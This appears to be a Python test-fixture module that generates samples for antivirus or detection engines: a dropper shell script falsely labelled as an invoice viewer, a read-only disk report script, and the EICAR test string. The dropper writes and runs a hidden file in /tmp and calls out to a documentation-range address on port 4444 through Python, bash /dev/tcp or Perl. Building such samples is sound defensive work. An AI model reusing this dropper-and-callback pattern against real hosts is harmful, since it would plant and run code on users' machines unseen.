"""Scripts and marks that engines react to, none of which does harm.

The dropper writes one file below /tmp, runs it, and dials TEST-NET-3 (RFC 5737), an address that
no network routes. The EICAR string is put together at run time, so that no file of the
repository is the test file itself.
"""

from __future__ import annotations

DROP_PATH = "/tmp/.cache-sync"
CALLBACK_HOST, CALLBACK_PORT = "203.0.113.77", 4444

DROPPER = f"""#!/bin/sh
# Invoice viewer: prepares the preview of this month's statement.
cat > {DROP_PATH} <<'PAYLOAD'
#!/bin/sh
echo "second stage: $(id -u) on $(uname -s)" > {DROP_PATH}.log
PAYLOAD
chmod +x {DROP_PATH}
{DROP_PATH}

if command -v python3 >/dev/null 2>&1; then
    python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3)
s.connect(('{CALLBACK_HOST}', {CALLBACK_PORT}))
s.sendall(b'hello')
"
elif command -v bash >/dev/null 2>&1; then
    timeout 3 bash -c 'exec 3<>/dev/tcp/{CALLBACK_HOST}/{CALLBACK_PORT}; echo hello >&3'
elif command -v perl >/dev/null 2>&1; then
    timeout 3 perl -MIO::Socket::INET -e \\
        'IO::Socket::INET->new(PeerAddr => "{CALLBACK_HOST}:{CALLBACK_PORT}", Timeout => 3)'
fi
exit 0
"""

HARMLESS = """#!/bin/sh
# Prints how full the disks are. Reads only.
echo "disk report"
cat /proc/mounts | while read -r device point kind rest; do
    [ "$kind" = proc ] && continue
    echo "$point is a $kind file system on $device"
done
"""

_EICAR_HALVES = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")


def eicar() -> bytes:
    """The EICAR anti-virus test file, 68 octets, which every scanner reports and nothing runs."""
    return "EICAR".join(_EICAR_HALVES).encode()


def dropper() -> bytes:
    """A shell script that drops a file, runs it, and tries to connect out."""
    return DROPPER.encode()


def harmless_script() -> bytes:
    """A shell script that only reads and prints."""
    return HARMLESS.encode()
